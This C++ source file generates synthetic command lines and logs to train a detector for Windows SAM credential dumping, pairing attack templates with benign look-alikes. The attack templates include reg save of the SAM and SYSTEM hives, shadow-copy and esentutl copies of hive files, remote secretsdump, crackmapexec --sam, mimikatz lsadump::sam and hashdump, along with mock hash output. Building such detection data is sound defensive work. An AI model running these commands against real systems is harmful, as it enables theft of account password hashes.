// T1003.002, OS credential dumping: Security Account Manager. The SAM hive holds local account hashes,
// encrypted with a key derived from the SYSTEM hive (and SECURITY holds cached secrets), so the attack is
// getting copies of those hives (or their in-memory contents) out of a running Windows system and then
// decrypting them offline. Plus the benign hard negatives that use the same tools, flags and paths.
#include "data/generator/templates.h"

namespace attune::data::gen {

void add_t1003_002(TemplateSet& s) {
  const std::string& L = kT1003_002;
  s.add(
      L, "reg", Kind::kCommand,
      {R"x({reg} save {hklm}\{SAM|sam|Sam} {q@1}{wtemp}\{hivefile}{q@1}{| /y})x",
       R"x({reg} save {q@1}{hklm}\SYSTEM{q@1} {q@2}{wtemp}\{hivefile}{q@2}{| /y})x",
       R"x({reg} save {hklm}\SECURITY {wtemp}\{hivefile}{| /y})x",
       R"x({reg} save {hklm}\SAM {wtemp}\{hivefile} /y {&|&&|;} {reg} save {hklm}\SYSTEM {wtemp}\{hivefile} /y)x",
       R"x(cmd{|.exe} /{c|C|q /c} "{reg} save {hklm}\sam {wtemp}\{hivefile} && {reg} save {hklm}\system {wtemp}\{hivefile}")x",
       R"x({reg} export {hklm}\SAM {wtemp}\{fname}.reg{| /y})x",
       R"x({reg} save {hklm}\SAM \\{whost}\{share}\{hivefile}{| /y})x",
       R"x({reg} query "{hklm}\SAM\SAM\Domains\Account\Users"{| /s})x",
       R"x({reg} query {hklm}\SAM\SAM\Domains\Account\Users\{000001F4|000001F5|000003E8|000003E9} /v {V|F})x",
       R"x(for %h in (SAM SYSTEM SECURITY) do {reg} save {hklm}\%h {wtemp}\%h.{hiv|save|bak})x"});
  s.add(
      L, "shadow", Kind::kCommand,
      {R"x(copy {shadow}\Windows\System32\config\{SAM|SYSTEM|SECURITY} {wtemp}\{hivefile})x",
       R"x(cmd /c "vssadmin create shadow /for={drive}: & copy {shadow}\Windows\System32\config\SAM {wtemp}\{hivefile}")x",
       R"x(wmic shadowcopy call create Volume='C:\' && copy {shadow}\windows\system32\config\SYSTEM {wtemp}\{hivefile})x",
       R"x(mklink /d {wtemp}\{fname} {shadow}\ & copy {wtemp}\{fname}\Windows\System32\config\SAM {wtemp}\{hivefile})x",
       R"x(robocopy /b {shadow}\Windows\System32\config {wtemp}\{fname} SAM SYSTEM{| SECURITY})x",
       R"x(xcopy /h /y {shadow}\Windows\System32\config\{SAM|SECURITY} {wtemp}\)x",
       R"x(diskshadow.exe /s {wtemp}\{fname}.{txt|dsh} & robocopy /b {Z|X|Y}:\Windows\System32\config {wtemp} SAM SYSTEM)x",
       R"x(copy C:\Windows\Repair\{SAM|SYSTEM} {wtemp}\{hivefile})x",
       R"x(esentutl{|.exe} /y /vss {C:|%SystemRoot%|%windir%}\{Windows\|}System32\config\{SAM|SYSTEM|SECURITY} /d {wtemp}\{hivefile})x"});
  s.add(
      L, "powershell", Kind::kCommand,
      {R"x({ps} -c "Copy-Item '{shadow}\Windows\System32\config\SAM' -Destination '{wtemp}\{hivefile}'")x",
       R"x({ps} -Command "reg save HKLM\SAM $env:TEMP\{hivefile}; reg save HKLM\SYSTEM $env:TEMP\{hivefile}")x",
       R"x({ps} -c "$s=(Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible'); cmd /c copy {shadow}\Windows\System32\config\SAM {wtemp}\{hivefile}")x",
       R"x({ps} -c "[System.IO.File]::Copy('{shadow}\Windows\System32\config\SYSTEM','{wtemp}\{hivefile}')")x",
       R"x(Get-ItemProperty -Path 'HKLM:\SAM\SAM\Domains\Account\Users\{000001F4|000003E8|000003E9}' -Name {V|F})x",
       R"x(Get-ChildItem -Path HKLM:\SAM\SAM\Domains\Account\Users -Recurse | Select-Object Name)x",
       R"x(Invoke-{HiveCopy|SamExport|ShadowGrab} -Hive {SAM|SYSTEM} -OutFile {wtemp}\{hivefile})x",
       R"x({ps} -ep bypass -File {wtemp}\{fname}.ps1 -Dump SAM -Out {wtemp}\{fname})x"});
  s.add(
      L, "remote", Kind::kCommand,
      {R"x(wmic /node:{ip} process call create "cmd /c reg save HKLM\SAM C:\Windows\Temp\{hivefile}")x",
       R"x(Invoke-WmiMethod -ComputerName {whost} -Class Win32_Process -Name Create -ArgumentList 'reg save HKLM\SAM C:\Windows\Temp\{hivefile}')x",
       R"x(psexec{|.exe|64.exe} \\{whost} -s reg save HKLM\{SAM|SYSTEM} C:\{hivefile})x",
       R"x(schtasks /create /tn {task} /tr "reg save HKLM\SAM {wtemp}\{hivefile}" /sc once /st {#00-23}:{#10-59} /ru SYSTEM)x",
       R"x(secretsdump.py {domain}/{user}:'{pass}'@{ip})x",
       R"x({impacket-secretsdump|secretsdump.py|python3 secretsdump.py} -hashes {lmhash}:{hex32} {domain}/{user}@{ip})x",
       R"x({secretsdump.py|impacket-secretsdump} -sam {fname}.{save|hiv} -system {fname}.{save|hiv}{| -security {fname}.save} LOCAL)x",
       R"x({crackmapexec|nxc|netexec} smb {ip}{|/24} -u {user} {-p '{pass}'|-H {hex32}} --sam)x",
       R"x(meterpreter > {hashdump|run post/windows/gather/hashdump|run post/windows/gather/smart_hashdump})x"});
  s.add(
      L, "linux", Kind::kCommand,
      {R"x(samdump2 {mnt@1}/Windows/System32/config/SYSTEM {mnt@1}/Windows/System32/config/SAM{| > {ltemp}/{fname}.txt})x",
       R"x(cp {mnt}/Windows/System32/config/{SAM|SYSTEM|SECURITY} {ltemp}/{fname})x",
       R"x(python3 pwdump.py {ltemp}/SYSTEM {ltemp}/SAM)x",
       R"x(chntpw -l {mnt}/Windows/System32/config/SAM)x"});
  s.add(
      L, "mimikatz", Kind::kLog,
      {R"x({mimikatz.exe|mimikatz|.\m.exe} "privilege::debug" "lsadump::sam" {exit|"exit"})x",
       R"x(lsadump::sam /system:{wtemp}\{hivefile} /sam:{wtemp}\{hivefile})x", R"x(mimikatz # lsadump::sam)x",
       R"x(Domain : {whost} SysKey : {hex32} Local SID : {sid} SAMKey : {hex32})x",
       R"x(RID : 000001f4 (500) User : Administrator Hash NTLM: {hex32})x",
       R"x(RID : 000003{e8|e9|ea} ({#1000-1010}) User : {user} Hash NTLM: {hex32} lm - 0: {hex32})x"});
  s.add(
      L, "impacket", Kind::kLog,
      {R"x([*] Target system bootKey: 0x{hex32})x",
       R"x([*] Dumping local SAM hashes (uid:rid:lmhash:nthash))x",
       R"x(Administrator:500:{lmhash}:{hex32}:::)x", R"x({user}:{#1000-1200}:{lmhash}:{hex32}:::)x",
       R"x([*] Service RemoteRegistry is in stopped state [*] Starting service RemoteRegistry [*] Saving remote SAM database)x",
       R"x([*] Retrieving SAM and SYSTEM hives from {ip} over the remote registry)x"});
  s.add(
      L, "api", Kind::kLog,
      {R"x(process={aproc} pid={pid} api=RegSaveKeyEx{W|A|} key=HKLM\{SAM|SYSTEM|SECURITY} file={wtemp}\{hivefile} result=0)x",
       R"x(process={aproc} api=RegOpenKeyExW key=HKLM\SAM\SAM\Domains\Account access=KEY_READ)x",
       R"x(api=RegSaveKeyW hKey=HKEY_LOCAL_MACHINE\SAM lpFile={wtemp}\{hivefile} process={aproc})x",
       R"x(process={aproc} pid={pid} api=NtSaveKey target=\REGISTRY\MACHINE\{SAM|SECURITY})x",
       R"x(api=CreateFileW path=\Device\HarddiskVolumeShadowCopy{#1-30}\Windows\System32\config\SAM access=GENERIC_READ process={aproc})x",
       R"x(process={aproc} api=RegQueryValueExW key=HKLM\SAM\SAM\Domains\Account\Users\000001F4 value=V)x"});
  s.add(
      L, "event", Kind::kLog,
      {R"x(EventID=1 Image=C:\Windows\System32\reg.exe CommandLine="reg save HKLM\{SAM|SECURITY} {wtemp}\{hivefile}" User={domain}\{user} ParentImage=C:\Windows\System32\cmd.exe)x",
       R"x(EventID=11 TargetFilename={wtemp}\{sam|system|sam_backup|s}.{hiv|save} Image=C:\Windows\System32\reg.exe)x",
       R"x(EventID=4656 ObjectName=\REGISTRY\MACHINE\SAM ProcessName={aproc} AccessMask=0x20019 SubjectUserName={user})x",
       R"x(The SAM registry hive was saved to {wtemp}\{hivefile} by {user} on {whost}.)x",
       R"x(A process on {whost} copied the SYSTEM and SAM hives from a volume shadow copy to {wtemp}.)x",
       R"x(User {user} exported HKLM\SECURITY with reg.exe into a temporary folder.)x",
       R"x(The remote registry service was started on {whost} and the SAM hive was read from {ip}.)x",
       R"x(Local account password hashes were extracted from the SAM database on {whost}.)x"});

  // Hard negatives: the same tools, flags and paths doing ordinary work.
  const std::string& B = kBenign;
  s.add(
      B, "reg", Kind::kCommand,
      {R"x({reg} query {hkcu}\Software\{vendor}\{product}{| /s| /v {valname}})x",
       R"x({reg} query "{hklm}\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v {ProductName|CurrentBuild|DisplayVersion})x",
       R"x({reg} query {hklm}\SYSTEM\CurrentControlSet\Services\{wsvc}{| /v Start| /v ImagePath})x",
       R"x({reg} export {hkcu}\Software\{vendor}\{product} {q@1}{wdocs}\{fname}.reg{q@1}{| /y})x",
       R"x({reg} save {hkcu}\Software\{vendor} {wdocs}\{fname}.hiv{| /y})x",
       R"x({reg} export "{hklm}\SOFTWARE\{vendor}\{product}" {wdocs}\{fname}.reg /y)x",
       R"x({reg} add {hkcu}\Software\{vendor}\{product} /v {valname} /t REG_DWORD /d {#0-1} /f)x",
       R"x({reg} load HKU\{fname} C:\Users\{user}\NTUSER.DAT{| && reg unload HKU\{fname}})x",
       R"x({reg} query HKU\{sid}\Software\{vendor})x",
       R"x({reg} query {hklm}\SYSTEM\CurrentControlSet\Control\{TimeZoneInformation|ComputerName\ComputerName|Session Manager\Environment})x"},
      L);
  s.add(
      B, "backup", Kind::kCommand,
      {R"x("C:\Program Files\{backupapp}.exe" --backup --source C:\Users\{user}\NTUSER.DAT --dest \\{whost}\backups\{user}\)x",
       R"x(robocopy C:\Users\{user} \\{whost}\{share}\{user} /MIR /XF NTUSER.DAT* /R:1 /W:1 /LOG:{wdocs}\{fname}.log)x",
       R"x(wbadmin start backup -backupTarget:{drive}: -include:C:\Users -quiet)x",
       R"x(vssadmin list {shadows|writers|shadowstorage|providers}{| /for=C:})x",
       R"x(vssadmin create shadow /for={drive}: & "C:\Program Files\{backupapp}.exe" --snapshot-job {word}{#1-9})x",
       R"x(copy {shadow}\Users\{user}\Documents\{fname}.{docext} {wdocs}\restored\)x",
       R"x(mklink /d C:\restore_{fname} {shadow}\ && dir C:\restore_{fname}\Users\{user}\Desktop)x",
       R"x(dir C:\Windows\System32\config{| /a})x", R"x(esentutl /mh {wdocs}\{fname}.edb)x",
       R"x(esentutl /p "C:\Windows\SoftwareDistribution\DataStore\DataStore.edb"{| /o})x",
       R"x(esentutl /y {wdocs}\{fname}.edb /d {wdocs}\{fname}_copy.edb)x",
       R"x(esentutl /y /vss {wdocs}\{fname}.{edb|mdb|db} /d {wdocs}\{fname}_snapshot.{edb|db})x",
       R"x(xcopy /h /y {shadow}\Users\{user}\Pictures\{fname}.jpg {wdocs}\)x"},
      L);
  s.add(
      B, "powershell", Kind::kCommand,
      {R"x(Get-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\*' | Select-Object DisplayName, DisplayVersion)x",
       R"x(Get-WmiObject Win32_ShadowCopy | Select-Object ID, InstallDate, VolumeName)x",
       R"x(Get-CimInstance -ClassName Win32_ShadowCopy{| | Measure-Object})x",
       R"x(Copy-Item '{shadow}\Users\{user}\Documents\{fname}.{docext}' -Destination '{wdocs}\')x",
       R"x(Get-ChildItem HKCU:\Software\{vendor} -Recurse | Export-Csv {wdocs}\{fname}.csv)x"},
      L);
  s.add(
      B, "api", Kind::kLog,
      {R"x(process={backupproc} pid={pid} api=RegSaveKeyExW key=HKCU\Software\{vendor} file={wdocs}\{fname}.hiv result=0)x",
       R"x(process=explorer.exe api=RegQueryValueExW key=HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer value={valname})x",
       R"x(process=svchost.exe api=CreateFileW path=\Device\HarddiskVolumeShadowCopy{#1-30}\Users\{user}\Documents\{fname}.{docext} access=GENERIC_READ)x",
       R"x(process={backupproc} api=RegOpenKeyExW key=HKLM\SOFTWARE\{vendor}\{product} access=KEY_READ)x"},
      L);
  s.add(
      B, "event", Kind::kLog,
      {R"x(EventID=1 Image=C:\Windows\System32\reg.exe CommandLine="reg query HKLM\SOFTWARE\{vendor}\{product}" User={domain}\{user})x",
       R"x(EventID=11 TargetFilename=C:\Users\{user}\NTUSER.DAT.LOG{1|2} Image=C:\Windows\System32\svchost.exe)x",
       R"x(Backup job {word}{#1-99} on {whost} copied the profile of {user}, including NTUSER.DAT, to \\{whost}\{share}.)x",
       R"x(The Volume Shadow Copy service created a scheduled restore point on {whost}.)x",
       R"x(User {user} exported the {product} settings key from HKCU to a .reg file.)x"},
      L);
  s.add(B, "linux", Kind::kCommand,
        {R"x(sudo mount -t ntfs-3g /dev/sd{b|c}{1|2} {mnt} && ls {mnt}/Users/{user}/Documents)x",
         R"x(cp {mnt}/Users/{user}/Documents/{fname}.{docext} {lhome}/)x"},
        L);
}

}  // namespace attune::data::gen
